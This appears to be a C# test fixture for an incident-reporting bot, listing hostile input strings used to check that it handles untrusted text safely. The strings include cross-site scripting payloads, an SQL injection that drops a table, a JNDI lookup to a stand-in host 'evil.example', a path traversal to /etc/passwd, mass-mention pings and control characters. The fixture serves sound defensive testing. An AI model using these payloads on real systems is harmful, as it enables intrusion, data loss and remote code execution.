namespace IncidentBot.EndToEnd.Tests.HoldingOn;

/// <summary>What nobody means well with, or nobody thought of.</summary>
internal static class HostileTexts
{
    public const string Image = "<img src=x onerror=alert(1)>";

    public static readonly string[] Texts =
    [
        "<script>alert(1)</script>",
        Image,
        "\"><svg onload=alert(1)>&lt;b&gt; & &amp;",
        "{{ incident.title }} {% raw %} {{ for x in 1..100000 }}{{ end }} }} {{",
        "@here @channel @everyone <!here> <!channel> <@U123> <http://evil.example|click>",
        "[click](javascript:alert(1)) ![x](http://evil.example/x.png) **bold** | a | b |",
        "# heading\n- item\n\n---\n```\ncode",
        new string('x', 10_000),
        string.Concat(Enumerable.Repeat("long words ", 900)),
        "\u202Eevil\u202C שלום עולם مرحبا \u200Bzero\uFEFFwidth",
        "before\0after\u0001\u001B[31mred",
        "👩‍👩‍👧‍👦 🇪🇺 💥 e\u0301\u0301\u0301 \uD83D\uDE00",
        "'; DROP TABLE Incidents; -- \\ %s %n ${jndi:ldap://evil.example/a}",
        "../../etc/passwd C:\\ NUL CON",
        "--service --at --private --drill at 14:05",
        "—",
    ];

    public static TheoryData<string> All => new(Texts);

    /// <summary>Markup that a browser would act on.</summary>
    public static readonly string[] Markup = ["<script", "<img", "<svg", "href=\"javascript:"];
}
